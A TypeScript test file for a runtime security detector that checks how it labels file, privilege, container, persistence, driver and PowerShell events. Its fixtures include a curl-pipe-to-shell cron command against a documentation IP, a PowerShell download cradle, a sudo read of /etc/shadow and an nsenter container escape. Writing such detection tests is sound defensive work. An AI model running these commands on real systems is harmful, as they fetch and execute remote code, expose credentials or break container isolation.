import { describe, expect, test } from 'vitest';
import { runtimeWatcher } from '../../../../src/actors/modules/runtime_watcher/detect.ts';
import { decodeEvent, runDetector } from '../../../kit/run-detector.ts';
import { said } from './exec.ts';

const report = (type: string, details: { readonly [key: string]: unknown }): readonly string[] =>
  said(runDetector(runtimeWatcher, {}, [decodeEvent({ type, details }, 0)]));

test.each<[string, { readonly [key: string]: unknown }, readonly string[]]>([
  ['file_modified', { path: '/etc/sudoers.d/x' }, ['sensitive_file_change CRITICAL']],
  ['file_modified', { path: '/home/alice/.ssh/authorized_keys' }, ['sensitive_file_change CRITICAL']],
  ['file_modified', { path: '/home/alice/.bashrc' }, ['sensitive_file_change HIGH']],
  ['file_modified', { path: '/home/alice/notes.txt' }, []],
  ['file_modified', { path: '/srv/etc/passwd.txt' }, []],
  ['file_created', { path: '/var/www/html/wp-content/uploads/2026/01/x.php' }, ['suspicious_file HIGH']],
  ['file_created', { path: '/var/www/html/index.php' }, []],
  ['file_created', { path: '/tmp/kworker' }, ['suspicious_file HIGH']],
  ['file_created', { path: '/tmp/x', mode: 0o100755 }, ['suspicious_file HIGH']],
  ['file_created', { path: '/tmp/x', mode: 0o100644 }, []],
  ['file_created', { path: '/tmp/x', magic: '\u007fELF' }, ['suspicious_file HIGH']],
  ['file_created', { path: '/tmp/go-build1/x.so' }, []],
  ['file_deleted', { path: '/tmp/x.sh' }, []],
  ['file_change', { path: '/srv/app/a.js', hash: 'aa', old_hash: 'bb' }, ['file_integrity_violation MEDIUM']],
  ['file_change', { path: '/etc/shadow', hash: 'aa', old_hash: 'bb' }, ['file_integrity_violation CRITICAL', 'sensitive_file_change CRITICAL']],
  ['file_change', { path: '/srv/app/a.js', hash: 'AA', old_hash: 'aa' }, []],
  ['privilege_change', { action: 'sudo', user: 'alice', command_line: '/usr/bin/apt update', success: true }, []],
  ['privilege_change', { action: 'su', user: 'alice', target: 'root', success: true }, []],
  ['privilege_change', { action: 'sudo', user: 'alice', command_line: '/usr/bin/cat /etc/shadow' }, ['credential_access HIGH']],
  ['privilege_change', { action: 'sudo_refused', user: 'alice', success: false }, ['privilege_escalation MEDIUM']],
  ['capability_change', { user: 'www-data', action: 'cap_setuid' }, ['privilege_escalation HIGH']],
  ['container_event', { action: 'Docker socket mount' }, ['container_escape CRITICAL']],
  ['container_event', { action: 'nsenter -t 1 -m sh' }, ['container_escape HIGH']],
  ['container_event', { action: 'start' }, []],
  ['cron_job', { name: 'x', command: 'curl http://192.0.2.9/x | sh' }, ['malicious_persistence CRITICAL']],
  ['systemd_service', { name: 'x', command: '/tmp/.x/y' }, ['malicious_persistence CRITICAL']],
  ['cron_job', { name: 'backup', command: '/usr/local/bin/backup' }, ['persistence_created MEDIUM']],
  ['scheduled_task', { process_name: 'CRON' }, []],
  ['driver_load', { driver_name: 'rtcore64.sys' }, ['byovd_driver_load CRITICAL']],
  ['driver_load', { path: '/tmp/x.ko' }, ['kernel_module_load HIGH']],
  ['driver_load', { path: '/lib/modules/6.1/kernel/fs/ext4/ext4.ko' }, []],
  ['firmware_event', { secure_boot: false }, ['secure_boot_bypass CRITICAL']],
  ['firmware_event', { hash: 'AB', expected_hash: 'ab' }, []],
  ['bootloader_change', { action: 'verify' }, []],
  ['powershell_exec', { command_line: 'Get-ChildItem' }, []],
  ['powershell_exec', { command_line: 'IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.9/x")' }, ['download_cradle CRITICAL']],
  ['fileless_execution', { process_name: 'x' }, ['fileless_execution HIGH']],
])('%s %j → %j', (type, details, wanted) => {
  expect(report(type, details)).toEqual(wanted);
});

describe('realtime changes of scratch folders', () => {
  test.each([
    ['/tmp/payload.sh', ['realtime_transient_exec HIGH', 'suspicious_file HIGH']],
    ['/tmp/pwnkit', ['realtime_fileless_lpe CRITICAL']],
    ['/tmp/screencap_001.png', []],
    ['/tmp/sudoku.txt', []],
    ['/srv/x.sh', []],
  ])('%s', (path, wanted) => {
    expect(report('file_change', { path, action: 'created', source: 'realtime' })).toEqual(wanted);
  });
});

test('numbers and booleans are read where text is expected', () => {
  expect(report('process_start', { process_name: 12345, command_line: true })).toEqual([]);
  expect(report('firmware_event', { secure_boot: 0 })).toEqual(['secure_boot_bypass CRITICAL']);
});
